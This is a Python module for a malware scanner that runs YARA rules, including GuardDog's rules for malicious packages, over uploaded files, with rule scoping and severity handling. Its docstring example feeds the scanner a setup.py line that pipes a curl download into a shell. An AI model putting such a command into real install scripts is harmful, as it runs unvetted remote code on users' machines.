"""YARA over uploaded files and archive members (yara-python).

The rules are GuardDog's source-code rules (DataDog/guarddog, Apache-2.0,
copied from the ``guarddog`` wheel into ``rules/guarddog/``, see its NOTICE)
and Agora's own (``rules/agora.yar``), plus any folder the operator adds
(``scan.yara_dirs``). GuardDog scopes each rule to file patterns with the
``path_include`` meta (``*.py,*.js,...``); a match outside those patterns is
dropped here as it is in GuardDog, so a rule written for Python source never
fires on a PNG's bytes. A rule's ``severity`` meta (low, medium, high) is the
detection's severity: the scan holds an asset for review at or above
``scan.yara_hold_severity``; lower ones are findings the risk score reads.
A rule GuardDog marks ``specificity = "low"`` counts one severity level lower
(it matches plenty of benign code: reading files, process memory, images).


Example:
    >>> engine = YaraEngine()  # doctest: +SKIP
    >>> hits = engine.scan([Payload("setup.py", data=b"os.system('curl x|sh')")])  # doctest: +SKIP
    >>> hits[0][-1].signature  # doctest: +SKIP
    'threat_process_download_exec'
"""

from __future__ import annotations

import fnmatch
import hashlib
import re
from collections.abc import Sequence
from functools import cache, cached_property
from pathlib import Path
from typing import Any

from agora.quality.scan.base import SEVERITIES, Detection, Engine, EngineAbsent, Payload

RULES_DIR = Path(__file__).parent / "rules"
# ``include "x.meta"`` lines: the folder's .meta files are prepended to every rule file
# instead, so a rule that uses a private rule without including it still compiles.
_INCLUDE = re.compile(r'^\s*include\s+"[^"]+\.meta"\s*$', re.MULTILINE)
_RULE_NAME = re.compile(r"^\s*(?:private\s+)?rule\s+(\w+)", re.MULTILINE)
_PATH_INCLUDE = re.compile(r'path_include\s*=\s*"([^"]*)"')
_PATH_INCLUDE_RULES = re.compile(r"^\s*(?:private\s+)?rule\s+\w+", re.MULTILINE)
TIMEOUT_S = 30


def rule_files(extra_dirs: Sequence[str] = (), *, shipped: bool = True) -> list[Path]:
    """Every ``.yar``/``.yara`` file of the shipped rules (unless ``shipped`` is
    false) and of ``extra_dirs``, sorted."""
    found: list[Path] = []
    folders = [RULES_DIR] if shipped else []
    for folder in [*folders, *(Path(d) for d in extra_dirs)]:
        found += [p for p in folder.rglob("*") if p.suffix in (".yar", ".yara")]
    return sorted(found)


@cache
def _helper_names(folder: Path) -> frozenset[str]:
    """Names of the rules the ``.meta`` files define: helpers, never reported."""
    return frozenset(_RULE_NAME.findall(_private_rules(folder)))


@cache
def _private_rules(folder: Path) -> str:
    """The folder's ``.meta`` files: private rules shared by its rule files."""
    return "".join(p.read_text() + "\n" for p in sorted(folder.glob("*.meta")))


def _patterns(value: str) -> list[str]:
    """The globs of a ``path_include`` value (a rule section without one: none)."""
    found = _PATH_INCLUDE.search(value)
    return [p.strip() for p in found.group(1).split(",") if p.strip()] if found else []


def _matches_name(patterns: list[str], name: str) -> bool:
    if not patterns:
        return True
    base = name.replace("\\", "/").rsplit("/", 1)[-1]
    return any(fnmatch.fnmatch(base, p) or fnmatch.fnmatch(name, p) for p in patterns)


def _applies(meta: dict[str, Any], name: str) -> bool:
    globs = [p.strip() for p in str(meta.get("path_include") or "").split(",") if p.strip()]
    return _matches_name(globs, name)


def _severity(meta: dict[str, Any]) -> str:
    value = str(meta.get("severity") or "medium").lower()
    value = value if value in SEVERITIES else "medium"
    # GuardDog marks how specific a rule is; a low-specificity rule is a signal, not
    # a verdict: it counts one level lower (a "high" one no longer holds by itself).
    if str(meta.get("specificity") or "").lower() == "low" and value in ("medium", "high"):
        return SEVERITIES[SEVERITIES.index(value) - 1]
    return value


class YaraEngine(Engine):
    """Compiled YARA rules; absent when yara-python is not installed."""

    name = "yara"

    def __init__(self, extra_dirs: Sequence[str] = (), *, shipped: bool = True) -> None:
        self.files = rule_files(extra_dirs, shipped=shipped)

    @cached_property
    def _rules(self) -> list[tuple[list[str], Any]] | None:
        """Compiled sets, one per file scope (the globs its rule files apply to;
        empty: every file), so a PNG or a shared library only meets the few rules
        that apply to it (the GuardDog rules are for source files)."""
        try:
            import yara
        except ImportError:
            return None
        groups: dict[tuple[str, ...], dict[str, str]] = {}
        for p in self.files:
            # GuardDog's files reuse identifiers: one namespace per file, with the
            # private rules of its folder's ``.meta`` files, which its rules call.
            text = _INCLUDE.sub("", p.read_text())
            scopes = [_patterns(m) for m in _PATH_INCLUDE_RULES.split(text)[1:]]
            patterns = (
                [] if not scopes or not all(scopes) else sorted({x for s in scopes for x in s})
            )
            namespace = f"{p.parent.name}/{p.stem}"
            # Files with the same scope share one compiled set (one match call).
            groups.setdefault(tuple(patterns), {})[namespace] = _private_rules(p.parent) + text
        return [(list(k), yara.compile(sources=v)) for k, v in sorted(groups.items())]

    @cached_property
    def _helpers(self) -> dict[str, frozenset[str]]:
        return {f"{p.parent.name}/{p.stem}": _helper_names(p.parent) for p in self.files}

    def available(self) -> str | None:
        if not self.files:
            return "no YARA rule files"
        return None if self._rules is not None else "yara-python is not installed"

    @cached_property
    def digest(self) -> str:
        """Content hash of the rule set: a rule change is a new scan version."""
        h = hashlib.sha256()
        for path in self.files + sorted({m for f in self.files for m in f.parent.glob("*.meta")}):
            h.update(path.name.encode() + b"\0" + path.read_bytes())
        return h.hexdigest()[:16]

    def describe(self) -> dict[str, Any]:
        import importlib.metadata

        try:
            version = importlib.metadata.version("yara-python")
        except importlib.metadata.PackageNotFoundError:
            version = "absent"
        return {
            "engine": "yara-python",
            "version": version,
            "rules": len(self.files),
            "rules_digest": self.digest,
        }

    def scan(self, payloads: Sequence[Payload]) -> list[list[Detection]]:
        rules = self._rules
        if rules is None:
            raise EngineAbsent("yara-python is not installed")
        out: list[list[Detection]] = []
        for payload in payloads:
            found: list[Detection] = []
            scoped = [r for patterns, r in rules if _matches_name(patterns, payload.name)]
            try:
                data = payload.read()
                matches = [m for r in scoped for m in r.match(data=data, timeout=TIMEOUT_S)]
            # yara.TimeoutError / yara.Error: that payload is not scanned, said so.
            except Exception as exc:  # noqa: BLE001
                found.append(
                    Detection("yara", "Agora.ScanError", "low", file=payload.name, detail=str(exc))
                )
                out.append(found)
                continue
            seen: set[str] = set()
            for match in matches:
                meta = dict(match.meta)
                helpers = self._helpers.get(match.namespace, frozenset())
                if match.rule in helpers or match.rule in seen or not _applies(meta, payload.name):
                    continue
                seen.add(match.rule)
                found.append(
                    Detection(
                        "yara",
                        match.rule,
                        _severity(meta),
                        file=payload.name,
                        detail=str(meta.get("description") or "")[:200] or None,
                    )
                )
            out.append(found)
        return out
